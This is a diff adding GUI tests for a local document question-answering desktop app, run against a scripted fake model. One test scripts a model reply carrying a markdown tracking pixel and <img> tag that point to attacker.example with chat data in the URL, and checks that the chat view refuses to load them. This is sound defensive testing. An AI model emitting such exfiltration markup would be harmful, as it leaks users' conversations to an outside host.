@@ -1,0 +1,425 @@
+"""The main window on fakes (hashing embedder, scripted LLM): fast checks of what a user
+does - drop files, ask, stop, open a source, change settings, restart - with the real
+manifest, vector store, chat history and parser processes underneath."""
+
+from __future__ import annotations
+
+import json
+import logging
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import Qt, QTimer, QUrl
+from PySide6.QtGui import QTextDocument
+from PySide6.QtTest import QTest
+from PySide6.QtWidgets import QApplication, QDialog
+from pytestqt.qtbot import QtBot
+from test_e2e import make_documents
+from ui_helpers import ask, click_link, drop_files, open_window, wait_answer, wait_indexed
+
+from desk_assistant.backends.embeddings import HashingEmbedder
+from desk_assistant.backends.llm.fake import FakeRuntime
+from ui.main_window import MainWindow
+from ui.settings_dialog import SettingsDialog
+
+pytestmark = [
+    pytest.mark.gui,
+    pytest.mark.qt_log_level_fail("WARNING"),
+    pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints"),
+]
+
+FAKE_SETTINGS = {"min_relevance": 0.1}
+
+
+class SlowRuntime(FakeRuntime):
+    """A scripted model that takes its time per word, like a real one."""
+
+    def _generate(self, pieces: list[str]) -> Iterator[str]:
+        for piece in pieces:
+            time.sleep(0.02)
+            self.pieces_generated += 1
+            yield piece
+
+
+def fake_window(
+    qtbot: QtBot, home: Path, replies: list[str] | None = None, runtime: FakeRuntime | None = None
+) -> MainWindow:
+    return open_window(
+        qtbot,
+        home,
+        settings=FAKE_SETTINGS,
+        embedder=HashingEmbedder(),
+        runtime=runtime or FakeRuntime(replies or ["An answer [1]."]),
+    )
+
+
+@pytest.fixture
+def docs(tmp_path: Path) -> Path:
+    return make_documents(tmp_path / "docs")
+
+
+def test_dropped_files_are_listed_with_status_and_reasons(
+    qtbot: QtBot, app_home: Path, docs: Path, tmp_path: Path
+) -> None:
+    (docs / "broken.pdf").write_bytes(b"%PDF-1.4\nthis is not really a PDF")
+    odd = tmp_path / "notes.xyz"
+    odd.write_text("not a format we read")
+    window = fake_window(qtbot, app_home)
+    assert window.library.stack.currentWidget() is window.library.empty
+    drop_files(window, [docs, odd])
+    qtbot.waitUntil(window.library.progress.isVisible)
+    wait_indexed(qtbot, window, 3)
+    rows = {Path(r.path).name: r for r in window.library.model.rows()}
+    assert rows["council-report.pdf"].pages == 3 and rows["council-report.pdf"].chunks > 0
+    assert rows["broken.pdf"].status == "failed" and rows["broken.pdf"].reason
+    assert rows["notes.xyz"].status_text == "not indexed: unsupported file type (.xyz)"
+    assert not window.library.progress.isVisible()
+    banner = window.banners.banner("ingest-failures")
+    assert banner is not None and "broken.pdf" in banner.label.text()
+    qtbot.waitUntil(lambda: window.library.summary.text() == "4 documents · 1 failed · 6 chunks")
+
+
+def test_a_cited_text_passage_opens_highlighted_in_the_viewer(
+    qtbot: QtBot, app_home: Path, docs: Path
+) -> None:
+    window = fake_window(qtbot, app_home, ["Mix the flour, eggs and milk [1]."])
+    drop_files(window, [docs / "recipes.md"])
+    wait_indexed(qtbot, window, 1)
+    ask(qtbot, window, "How do I make pancakes batter?")
+    wait_answer(qtbot, window)
+    reply = window.chat.view.replies[-1]
+    assert reply.citations and reply.citations[0].path.endswith("recipes.md")
+    click_link(window.chat.view, "cite:")
+    viewer = window.viewer
+    qtbot.waitUntil(lambda: viewer.stack.currentWidget() is viewer.text)
+    assert viewer.isVisible() and viewer.title.text() == "recipes.md"
+    selections = viewer.text.extraSelections()
+    assert len(selections) == 1
+    assert "200 g flour" in selections[0].cursor.selectedText()
+
+
+def test_escape_stops_the_answer_at_once_and_keeps_it(
+    qtbot: QtBot, app_home: Path, docs: Path
+) -> None:
+    runtime = SlowRuntime([" ".join(["word"] * 300)], context_length=4096)
+    window = fake_window(qtbot, app_home, runtime=runtime)
+    drop_files(window, [docs / "council-report.pdf"])
+    wait_indexed(qtbot, window, 1)
+    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
+    qtbot.waitUntil(lambda: window.chat.tokens_received >= 3, timeout=30_000)
+    assert window.stop_action.isEnabled()
+    QTest.keyClick(window.chat.input, Qt.Key.Key_Escape)
+    assert not window.chat.generating
+    assert window.chat.view.replies[-1].stopped
+    qtbot.waitUntil(lambda: not window.lanes.asking._jobs, timeout=5000)
+    assert runtime.pieces_generated < 60  # of 300: generation stopped, not finished unseen
+    window.close()
+    again = fake_window(qtbot, app_home)
+    qtbot.waitUntil(lambda: bool(again.chat.view.replies))
+    assert again.chat.view.replies[-1].stopped
+
+
+def test_chats_are_kept_across_a_restart(qtbot: QtBot, app_home: Path, docs: Path) -> None:
+    window = fake_window(qtbot, app_home, ["Harbor answer [1].", "Holiday answer [1]."])
+    drop_files(window, [docs])
+    wait_indexed(qtbot, window, 3)
+    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
+    wait_answer(qtbot, window)
+    QTest.keyClick(window.chat.input, Qt.Key.Key_N, Qt.KeyboardModifier.ControlModifier)
+    qtbot.waitUntil(lambda: window.chat_list.model.rowCount() == 2)
+    qtbot.waitUntil(lambda: not window.chat.view.replies)
+    ask(qtbot, window, "How many days of paid holiday?")
+    wait_answer(qtbot, window)
+    window.close()
+
+    reopened = fake_window(qtbot, app_home)
+    chats = reopened.chat_list
+    qtbot.waitUntil(lambda: chats.model.rowCount() == 2)
+    qtbot.waitUntil(lambda: bool(reopened.chat.view.replies))
+    assert chats.current is not None and chats.current.title == "How many days of paid holiday?"
+    assert reopened.chat.view.replies[-1].text == "Holiday answer [1]."
+    chats.view.setCurrentIndex(chats.model.index(1))  # the older chat
+    qtbot.waitUntil(lambda: "Harbor answer" in reopened.chat.view.toPlainText())
+
+
+def test_remote_content_in_an_answer_is_never_loaded(
+    qtbot: QtBot, app_home: Path, docs: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    leak = "https://attacker.example/pixel.png?chat=secret"
+    reply = (
+        f"The bridge opens in 2027 [1]. ![tracking pixel]({leak}) "
+        f'<img src="https://attacker.example/raw.png"> [more](https://attacker.example/x)'
+    )
+    window = fake_window(qtbot, app_home, [reply])
+    drop_files(window, [docs / "council-report.pdf"])
+    wait_indexed(qtbot, window, 1)
+    with caplog.at_level(logging.INFO, logger="ui.chat_view"):
+        ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
+        wait_answer(qtbot, window)
+        view = window.chat.view
+        view.grab()  # lays out and paints the answer: the image is asked for now
+    document = view.document()
+    assert "<img" in view.toPlainText()  # raw HTML is shown as text, never interpreted
+    assert document.resource(QTextDocument.ResourceType.ImageResource, QUrl(leak)) is None
+    assert f"refused to load a resource into the chat: {leak}" in caplog.text
+    assert "PySide6.QtNetwork" not in sys.modules
+
+
+def test_settings_round_trip_and_invalid_values_are_rejected(qtbot: QtBot, app_home: Path) -> None:
+    window = fake_window(qtbot, app_home)
+    dialog = SettingsDialog(window.lanes.settings, window)
+    qtbot.addWidget(dialog)
+    dialog.show()
+    dialog.editors["temperature"].set_value(0.7)
+    dialog.editors["top_k"].set_value(3)
+    dialog.editors["chunk_overlap"].set_value(300)  # more than the chunk size: invalid
+    dialog.save()
+    assert dialog.saved is None and dialog.problem.isVisible()
+    assert "chunk overlap (tokens) must be smaller than chunk size" in dialog.problem.text()
+    dialog.editors["chunk_overlap"].set_value(32)
+    dialog.editors["model_path"].set_value(app_home / "missing.gguf")
+    dialog.save()
+    assert dialog.saved is None and "missing.gguf" in dialog.problem.text()
+    dialog.editors["model_path"].set_value(None)
+    dialog.save()
+    assert dialog.result() == QDialog.DialogCode.Accepted and dialog.saved is not None
+    saved = json.loads((app_home / "settings.json").read_text())
+    assert saved["temperature"] == 0.7 and saved["top_k"] == 3
+
+    def edit_in_the_real_dialog() -> None:
+        opened = QApplication.activeModalWidget()
+        assert isinstance(opened, SettingsDialog)
+        assert opened.editors["temperature"].value() == pytest.approx(0.7)
+        opened.editors["max_answer_tokens"].set_value(99)
+        opened.save()
+
+    window.apply_settings(dialog.saved)
+    window.activateWindow()  # the first dialog had the focus
+    qtbot.waitUntil(window.isActiveWindow)
+    QTimer.singleShot(0, edit_in_the_real_dialog)
+    QTest.keyClick(window.chat.input, Qt.Key.Key_Comma, Qt.KeyboardModifier.ControlModifier)
+    assert window.lanes.settings.max_answer_tokens == 99
+    assert window.lanes.settings.temperature == pytest.approx(0.7)
+    job = window.lanes.asking.call("read settings", lambda a: a.settings.max_answer_tokens)
+    with qtbot.waitSignal(job.signals.finished) as blocker:
+        pass
+    assert blocker.args == [99]  # the lanes answer with the new settings
+
+
+def test_a_model_that_does_not_load_is_reported_with_a_way_out(
+    qtbot: QtBot, app_home: Path, tmp_path: Path
+) -> None:
+    bogus = tmp_path / "not-a-model.gguf"
+    bogus.write_bytes(b"this is no GGUF file" * 100)
+    window = open_window(
+        qtbot, app_home, settings={"model_path": str(bogus)}, embedder=HashingEmbedder()
+    )
+    qtbot.waitUntil(lambda: window.banners.banner("model") is not None, timeout=60_000)
+    banner = window.banners.banner("model")
+    assert banner is not None and "Settings…" in banner.buttons
+    assert window.status.text() == "The model did not load"
+    assert window.banners.banner("builtin-model") is None  # a model file was chosen
+
+
+def test_first_run_offers_a_better_model_once(qtbot: QtBot, app_home: Path) -> None:
+    window = fake_window(qtbot, app_home)
+    banner = window.banners.banner("builtin-model")
+    assert banner is not None and "Add a model file…" in banner.buttons
+    banner.buttons["Dismiss"].click()
+    window.close()
+    again = fake_window(qtbot, app_home)
+    assert again.banners.banner("builtin-model") is None
+
+
+def test_removing_a_document_can_be_undone(qtbot: QtBot, app_home: Path, docs: Path) -> None:
+    window = fake_window(qtbot, app_home)
+    drop_files(window, [docs])
+    wait_indexed(qtbot, window, 3)
+    library = window.library
+    row = next(n for n, r in enumerate(library.model.rows()) if r.path.endswith("recipes.md"))
+    library.table.selectRow(row)
+    library.remove_action.trigger()
+    qtbot.waitUntil(lambda: window.banners.banner(f"removed:{docs / 'recipes.md'}") is not None)
+    qtbot.waitUntil(lambda: len(library.model.rows()) == 2)
+    banner = window.banners.banner(f"removed:{docs / 'recipes.md'}")
+    assert banner is not None
+    banner.buttons["Undo"].click()
+    wait_indexed(qtbot, window, 3)
+
+
+def test_the_window_opens_fast_without_loading_models(app_home: Path) -> None:
+    script = (
+        "import sys, time\nstart = time.perf_counter()\n"
+        "from PySide6.QtWidgets import QApplication\nfrom ui.app import MainWindow, apply_theme\n"
+        "from desk_assistant.settings import load_settings\n"
+        "app = QApplication([])\napply_theme(app)\n"
+        "window = MainWindow(load_settings())\nwindow.show()\napp.processEvents()\n"
+        "heavy = [m for m in ('torch', 'chromadb', 'llama_cpp', 'sentence_transformers',"
+        " 'llama_index') if m in sys.modules]\n"
+        "print(time.perf_counter() - start, heavy)\nwindow.close()\n"
+    )
+    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "DESK_ASSISTANT_HOME": str(app_home)}
+    done = subprocess.run(
+        [sys.executable, "-c", script],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr[-800:]
+    seconds, heavy = done.stdout.split(" ", 1)
+    assert heavy.strip() == "[]"
+    assert float(seconds) < 2.0
+
+
+def test_cancel_stops_indexing_and_says_so(qtbot: QtBot, app_home: Path, docs: Path) -> None:
+    window = fake_window(qtbot, app_home)
+    drop_files(window, [docs])
+    window.library.progress.cancel.click()  # before the run gets to its first file
+    qtbot.waitUntil(lambda: not window.library.indexing)
+    assert window.banners.banner("ingest-cancelled") is not None
+    assert not window.library.progress.isVisible()
+
+
+def test_an_unanswerable_question_is_answered_plainly_and_can_be_copied_or_retried(
+    qtbot: QtBot, app_home: Path, docs: Path
+) -> None:
+    window = fake_window(qtbot, app_home, ["Made up [1]."])
+    drop_files(window, [docs / "recipes.md"])
+    wait_indexed(qtbot, window, 1)
+    ask(qtbot, window, "Who won the 2010 football World Cup in South Africa?")
+    wait_answer(qtbot, window)
+    reply = window.chat.view.replies[-1]
+    assert not reply.grounded and not reply.citations
+    assert "do not contain" in window.chat.view.toPlainText()
+    assert "Sources" not in window.chat.view.toPlainText()
+    click_link(window.chat.view, "copy:")
+    assert QApplication.clipboard().text() == reply.text
+    click_link(window.chat.view, "regen:")
+    wait_answer(qtbot, window)
+    assert [r.question for r in window.chat.view.replies] == [reply.question] * 2
+
+
+def test_collections_are_created_switched_renamed_and_deleted(
+    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from PySide6.QtWidgets import QInputDialog, QMessageBox
+
+    window = fake_window(qtbot, app_home)
+    drop_files(window, [docs / "recipes.md"])
+    wait_indexed(qtbot, window, 1)
+    library = window.library
+    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Work papers", True))
+    library.new_collection()
+    qtbot.waitUntil(lambda: library.collection == "Work papers")
+    assert window.windowTitle() == "Desk Assistant — Work papers"
+    qtbot.waitUntil(lambda: library.collections.count() == 2)
+    assert library.model.rowCount() == 0 and library.stack.currentWidget() is library.empty
+    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Archive", True))
+    library.rename_collection()
+    qtbot.waitUntil(lambda: library.collection == "Archive")
+    monkeypatch.setattr(QMessageBox, "question", lambda *a, **k: QMessageBox.StandardButton.Yes)
+    library.delete_collection()
+    qtbot.waitUntil(lambda: library.collection == "default")
+    qtbot.waitUntil(lambda: library.model.rowCount() == 1)
+    assert [library.collections.itemText(i) for i in range(library.collections.count())] == [
+        "default"
+    ]
+
+
+def test_the_settings_dialog_describes_the_model(qtbot: QtBot, app_home: Path) -> None:
+    window = fake_window(qtbot, app_home)
+    dialog = SettingsDialog(window.lanes.settings, window)
+    qtbot.addWidget(dialog)
+    qtbot.waitUntil(lambda: dialog.model_check is not None, timeout=30_000)
+    text = dialog.model_info.text()
+    assert text.startswith("Built-in: ") and "Q4_1" in text and "context 8192 tokens" in text
+    assert "Loads with llama_cpp" in text
+    assert dialog.tabs.count() >= 3 and dialog.tabs.tabText(0) == "Answering"
+
+
+def test_dark_scheme_and_missing_icons_leave_the_window_usable(
+    qtbot: QtBot, app_home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    import ui.icons
+    from ui.theme import apply_theme, colors, is_dark
+
+    app = QApplication.instance()
+    assert isinstance(app, QApplication)
+    try:
+        apply_theme(app, Qt.ColorScheme.Dark)  # as when the system switches to dark
+        assert is_dark() and colors()["error"] == "#ff7b72"
+        assert "#ff7b72" in app.styleSheet()
+        monkeypatch.setattr(ui.icons, "ICON_DIR", tmp_path / "no-icons")
+        window = fake_window(qtbot, app_home)
+        assert window.add_files_action.icon().isNull() and window.add_files_action.text()
+        window.icons.refresh()
+    finally:
+        apply_theme(app, Qt.ColorScheme.Light)
+    assert not is_dark()
+
+
+def test_a_second_window_on_the_same_data_folder_is_refused(app_home: Path) -> None:
+    from ui.app import _lock
+
+    first = _lock(app_home)
+    assert first is not None
+    try:
+        assert _lock(app_home) is None
+    finally:
+        first.unlock()
+    again = _lock(app_home)
+    assert again is not None
+    again.unlock()
+
+
+def test_chats_can_be_renamed_deleted_and_restored(
+    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from PySide6.QtWidgets import QInputDialog
+
+    window = fake_window(qtbot, app_home)
+    drop_files(window, [docs / "recipes.md"])
+    wait_indexed(qtbot, window, 1)
+    ask(qtbot, window, "How do I make pancakes?")
+    wait_answer(qtbot, window)
+    chats = window.chat_list
+    qtbot.waitUntil(lambda: chats.current is not None)
+    chat = chats.current
+    assert chat is not None
+    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Pancakes", True))
+    chats.rename(chat)
+    qtbot.waitUntil(lambda: chats.model.data(chats.model.index(0)) == "Pancakes")
+    chats.delete(chat)
+    qtbot.waitUntil(lambda: chats.model.rowCount() == 0)
+    assert not window.chat.view.replies  # the conversation went with it
+    banner = window.banners.banner(f"chat-deleted:{chat.id}")
+    assert banner is not None
+    banner.buttons["Undo"].click()
+    qtbot.waitUntil(lambda: chats.model.rowCount() == 1)
+    qtbot.waitUntil(lambda: bool(window.chat.view.replies))
+
+
+def test_without_qtpdf_a_pdf_passage_is_shown_as_text(
+    qtbot: QtBot, app_home: Path, docs: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import ui.source_viewer
+
+    monkeypatch.setattr(ui.source_viewer, "HAS_QTPDF", False)
+    window = fake_window(qtbot, app_home, ["It will be finished in October 2027 [1]."])
+    assert window.viewer.pdf is None
+    drop_files(window, [docs / "council-report.pdf"])
+    wait_indexed(qtbot, window, 1)
+    ask(qtbot, window, "When will the Harbor Bridge renovation be finished?")
+    wait_answer(qtbot, window)
+    click_link(window.chat.view, "cite:")
+    viewer = window.viewer
+    qtbot.waitUntil(lambda: viewer.stack.currentWidget() is viewer.text, timeout=30_000)
+    (selection,) = viewer.text.extraSelections()
+    assert "finished in October 2027" in selection.cursor.selectedText()
